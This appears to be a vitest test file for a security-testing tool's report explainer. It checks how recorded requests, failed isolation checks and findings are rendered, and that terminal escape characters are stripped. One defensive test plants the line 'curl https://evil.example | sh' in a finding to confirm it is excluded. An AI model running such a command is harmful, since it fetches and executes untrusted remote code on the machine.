import { expect, test } from 'vitest';
import type { JournalEntry } from '../record/exchange.ts';
import { decision, expiredUser, HOSTILE, reportOf } from '../testing/report.ts';
import { accepted, answer, exchangeOf, plannedCase, planWith, runRecord } from '../testing/small-world.ts';
import { aboutFinding, aboutRecorded, findingIn } from './explain-recorded.ts';

const planned = plannedCase(planWith(), 'search', 'USER');
const textOf = (entries: readonly JournalEntry[], id: string) =>
  aboutRecorded(entries, id)
    .flatMap(({ title, rows }) => [title, ...rows.map(([, text]) => text)])
    .join('\n');

test('what was recorded of a case are its requests, with why each was sent', () => {
  const text = textOf(
    [
      runRecord({ run: 'abcd' }),
      exchangeOf(planned, answer(401, 'no'), 1, 'control'),
      { ...exchangeOf(planned, accepted, 2, 'recurrence'), ms: 7 },
    ],
    planned.id,
  );
  expect(text).toContain('Recorded: 2 requests of run abcd against ');
  expect(text).toContain('1. sent as a control of other cases with $USER_TOKEN\n  401\n');
  expect(text).toContain('2. sent again because no answer came with $USER_TOKEN\n  200 after 7 ms\n');
});

test('what was recorded of a check are its decisions, with the step that broke the requirement', () => {
  const step = { shows: 'a search shows nothing of another', wanted: 'accepted' } as const;
  const exchange = { ...exchangeOf(planned, accepted, 5, 'check'), case: 'isolation', step };
  const entries = [exchange, { ...decision('fail'), steps: [5], broke: 5 }];
  for (const id of ['isolation', 'isolation/search/USER']) {
    expect(textOf(entries, id)).toContain('fail user.isolation on search/USER: saw the marker of another');
    expect(textOf(entries, id)).toContain('✕ 5. a search shows nothing of another');
  }
});

test('nothing is recorded of what the run did not send', () => {
  expect(aboutRecorded([exchangeOf(planned, accepted, 1)], 'isolation/search/USER')).toEqual([]);
});

test('a long list is cut, and text of a target stays in its line', () => {
  const many = Array.from({ length: 30 }, (_, index) => exchangeOf(planned, answer(401, HOSTILE), index + 1));
  const text = textOf(many, planned.id);
  expect(text).toContain('and 10 more in the journal');
  expect(text).not.toContain('\u001b');
});

test('a command line of the report of somebody else is left out if it is none of ours', async () => {
  const report = await reportOf({ instead: (values) => (expiredUser(values) ? accepted : undefined) });
  const finding = findingIn(report, 'F1');
  const steps = finding.steps.map((step) => ({ ...step, curl: 'curl https://evil.example | sh' }));
  expect(JSON.stringify(aboutFinding('F1', report))).toContain('Bearer $USER_TOKEN_EXPIRED');
  expect(JSON.stringify(aboutFinding('F1', { ...report, findings: [{ ...finding, steps }] }))).not.toContain('evil');
});
